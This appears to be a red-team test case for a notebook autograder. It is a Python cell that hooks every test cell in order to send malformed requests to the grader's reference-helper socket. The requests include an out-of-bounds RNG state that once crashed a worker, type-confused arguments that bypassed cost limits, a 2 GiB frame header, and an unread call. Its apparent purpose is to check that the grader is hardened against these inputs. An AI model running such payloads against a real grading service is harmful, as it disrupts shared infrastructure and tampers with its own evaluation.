# Attack 3f, the grader's reference socket: a cell after the setup registers a hook that, before
# each test cell of K_Means and EM (while the grader answers their reference helpers), sends the
# socket requests of its own: an rng state numpy would read out of bounds (it crashed the
# grading worker), a K given as a numpy integer and data wrapped in a list (they slipped past
# the cost bound, and the work went on after the submission was graded), a helper name that is
# no string, an unknown helper, a frame announcing 2 GiB, and one call whose reply is never
# read. Each reply is printed into the feedback.
# Why: full marks: the honest equivalent is the solution; the grader refuses each request, the
#   server keeps answering the real helpers, and the batch and the other students are unchanged.
# ruff: noqa
# fmt: off
### AFTER setup
import base64 as _b64, json as _json, os as _os, socket as _socket, struct as _struct


def _lab3_plan_check():
    try:
        with open(_os.path.join(_os.environ["LAB3_INBOX"], "plan.json")) as f:
            return _json.load(f).get("check")
    except Exception:
        return None


def _lab3_ask(payload, read=True):
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    sock.settimeout(20)
    sock.connect(_os.environ["LAB3_HELPERS"])
    sock.sendall(payload)
    if not read:
        globals().setdefault("_lab3_open", []).append(sock)
        return "sent"
    head = b""
    while len(head) < 4:
        head += sock.recv(4 - len(head))
    size = _struct.unpack(">I", head)[0]
    body = b""
    while len(body) < size:
        body += sock.recv(size - len(body))
    sock.close()
    return body[:200]


def _lab3_frame(request):
    data = _json.dumps(request).encode()
    return _struct.pack(">I", len(data)) + data


def _lab3_array(a):
    a = np.ascontiguousarray(a)
    return {"array": a.dtype.str, "shape": list(a.shape), "b64": _b64.b64encode(a.tobytes()).decode()}


def _lab3_attack(*args, **kwargs):
    if _lab3_plan_check() not in ("public:K_Means", "K_Means", "public:EM", "EM"):
        return
    key = [int(v) for v in np.random.MT19937(1).state["state"]["key"]]
    k100 = {"scalar": "<i8", "b64": _b64.b64encode(np.int64(100).tobytes()).decode()}
    requests = [
        {"helper": "Centroid_init", "args": [_lab3_array(np.arange(40.0).reshape(20, 2)), 2],
         "rng": {"bit_generator": "MT19937", "state": {"key": key, "pos": 2000000000}}},
        {"helper": "K_Means", "args": [_lab3_array(np.random.default_rng(7).random(300000)), k100],
         "rng": np.random.default_rng(0).bit_generator.state},
        {"helper": "Set", "args": [[_lab3_array(np.zeros(200000))], _lab3_array(np.zeros((1000, 1)))]},
        {"helper": ["K_Means"], "args": []},
        {"helper": "lloyd", "args": []},
    ]
    for request in requests:
        try:
            print("socket:", _lab3_ask(_lab3_frame(request)))
        except Exception as error:
            print("socket:", type(error).__name__, error)
    for payload, read in ((_struct.pack(">I", 2**31), True), (_lab3_frame(requests[1]), False)):
        try:
            print("socket:", _lab3_ask(payload, read))
        except Exception as error:
            print("socket:", type(error).__name__, error)


get_ipython().events.register("pre_run_cell", _lab3_attack)
